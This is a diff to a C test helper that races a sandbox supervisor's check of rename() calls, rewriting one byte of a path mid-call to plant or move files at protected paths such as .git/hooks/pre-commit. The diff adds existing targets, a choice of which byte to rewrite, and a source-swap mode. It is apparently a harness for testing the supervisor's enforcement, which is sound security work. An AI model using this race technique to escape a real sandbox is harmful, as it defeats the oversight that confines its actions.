@@ -1,15 +1,22 @@
-/* A hostile build step that races the supervisor for a protected path that
- * is absent when the task starts (SECURITY.md §5.3): it renames SRC (a file
+/* A hostile build step that races the supervisor for a protected path, absent
+ * when the task starts or existing (SECURITY.md §5.3): it renames SRC (a file
  * or a directory it prepared) to a name held in memory that the main thread
  * rewrites, one byte, from a benign name to TARGET while the rename waits for
- * the supervisor's judgement. The delay before the rewrite adapts: a rename
+ * the supervisor's judgement (over an existing TARGET, rename replaces it). The delay before the rewrite adapts: a rename
  * that landed on the benign name came too late (moved back, tried sooner), a
  * refused one too early (tried later; under `on_violation: kill` the first
- * refusal ends the task). Prints "ESCAPED ..." when TARGET exists after a
- * try, and stops; after TRIES lost tries it makes one plain attempt (no
+ * refusal ends the task). Prints "ESCAPED ..." when TARGET is SRC's entry
+ * after a try (same inode), and stops; after TRIES lost tries it makes one plain attempt (no
  * race), which the supervisor must refuse. Exits 0 either way (the verdict
  * must come from orchestra).
- * Usage: race_protected SRC TARGET [TRIES]. Built by the test harness
+ * The byte rewritten is TARGET's last, or the one at index POS: inside a
+ * protected directory every name is refused, so for `.git/hooks/pre-commit`
+ * the byte to rewrite is one of `hooks` (the benign directory is made first).
+ * With -s the name rewritten is the source instead: `-s TARGET DST` renames
+ * TARGET (an existing protected path, or a directory that holds one) to DST
+ * through a name rewritten from a benign one (a directory or file it makes),
+ * and prints "ESCAPED ..." when TARGET's entry is at DST.
+ * Usage: race_protected [-s] SRC TARGET [TRIES [POS]]. Built by the test harness
  * (static, for the container backends); never part of the product. */
 #define _GNU_SOURCE
 #include <fcntl.h>
@@ -27,11 +34,12 @@ static char name[4096] __attribute__((aligned(64)));
 static const char *src;
 static volatile pid_t worker_tid;
 static volatile long worker_rc;
+static int flip_src;
 
 static void *worker(void *unused) {
     (void)unused;
     worker_tid = (pid_t)syscall(SYS_gettid);
-    worker_rc = syscall(SYS_rename, src, name);
+    worker_rc = flip_src ? syscall(SYS_rename, name, src) : syscall(SYS_rename, src, name);
     return NULL;
 }
 
@@ -57,23 +65,51 @@ static int waiting_in_rename(pid_t tid) {
 }
 
 int main(int argc, char **argv) {
+    if (argc > 1 && strcmp(argv[1], "-s") == 0) {
+        flip_src = 1;
+        argv++;
+        argc--;
+    }
     if (argc < 3) {
-        fprintf(stderr, "usage: race_protected SRC TARGET [TRIES]\n");
+        fprintf(stderr, "usage: race_protected [-s] SRC TARGET [TRIES [POS]]\n");
         return 64;
     }
-    src = argv[1];
-    const char *target = argv[2];
+    /* `src` is the name that stays; `target` the one rewritten. */
+    const char *target = flip_src ? argv[1] : argv[2];
+    src = flip_src ? argv[2] : argv[1];
     int tries = argc > 3 ? atoi(argv[3]) : 3000;
     size_t len = strlen(target);
     if (len == 0 || len >= sizeof name) return 64;
     memcpy(name, target, len + 1);
-    char last = target[len - 1], benign = last == '~' ? '-' : '~';
+    size_t pos = argc > 4 ? (size_t)atol(argv[4]) : len - 1;
+    if (pos >= len || target[pos] == '/') return 64;
+    char last = target[pos], benign = last == '~' ? '-' : '~';
+    /* The benign name's directory, when the byte is in a directory's name. */
+    char dir[4096];
+    memcpy(dir, target, len + 1);
+    dir[pos] = benign;
+    char *slash = strchr(dir + pos, '/');
+    if (slash) {
+        *slash = 0;
+        mkdir(dir, 0755);
+    }
+    struct stat tst;
+    if (flip_src && lstat(target, &tst) == 0) {
+        /* The benign source: a directory or a file like the target. */
+        char b[4096];
+        memcpy(b, target, len + 1);
+        b[pos] = benign;
+        if (S_ISDIR(tst.st_mode)) mkdir(b, 0755);
+        else close(open(b, O_CREAT | O_WRONLY | O_CLOEXEC, 0644));
+    }
     long delay = 200000; /* ns after the rename is seen waiting */
     unsigned seed = (unsigned)now_ns();
     struct stat st;
     int late = 0, early = 0;
     for (int i = 0; i < tries; i++) {
-        __atomic_store_n(&name[len - 1], benign, __ATOMIC_SEQ_CST);
+        __atomic_store_n(&name[pos], benign, __ATOMIC_SEQ_CST);
+        struct stat before;
+        if (lstat(flip_src ? target : src, &before) != 0) return report("lstat the entry to move", -1);
         worker_tid = 0;
         pthread_t t;
         if (pthread_create(&t, NULL, worker, NULL)) return report("pthread_create", -1);
@@ -84,10 +120,12 @@ int main(int argc, char **argv) {
         long jitter = (long)(rand_r(&seed) % 3000);
         long t1 = now_ns();
         while (now_ns() - t1 < delay + jitter) { }
-        __atomic_store_n(&name[len - 1], last, __ATOMIC_SEQ_CST);
+        __atomic_store_n(&name[pos], last, __ATOMIC_SEQ_CST);
         pthread_join(t, NULL);
-        if (lstat(target, &st) == 0) {
-            printf("ESCAPED rename to %s at try %d (delay %ld us; %d late, %d refused)\n", target, i + 1,
+        const char *moved_to = flip_src ? src : target;
+        if (lstat(moved_to, &st) == 0 && st.st_ino == before.st_ino && st.st_dev == before.st_dev) {
+            printf("ESCAPED rename %s to %s at try %d (delay %ld us; %d late, %d refused)\n", flip_src ? target : src,
+                   moved_to, i + 1,
                    delay / 1000, late, early);
             fflush(stdout);
             return 0;
@@ -95,8 +133,9 @@ int main(int argc, char **argv) {
         if (worker_rc == 0) {
             /* Landed on the benign name: too late. */
             late++;
-            name[len - 1] = benign;
-            if (rename(name, src) != 0) return report("moving the benign name back", -1);
+            name[pos] = benign;
+            if ((flip_src ? rename(src, name) : rename(name, src)) != 0)
+                return report("moving the benign name back", -1);
             delay = delay > 3000 ? delay - 3000 : 0;
         } else {
             /* Refused: too early. */
@@ -105,6 +144,6 @@ int main(int argc, char **argv) {
         }
     }
     printf("lost %d tries (%d late, %d refused)\n", tries, late, early);
-    name[len - 1] = last;
-    return report("rename without a race", rename(src, name));
+    name[pos] = last;
+    return report("rename without a race", flip_src ? rename(name, src) : rename(src, name));
 }
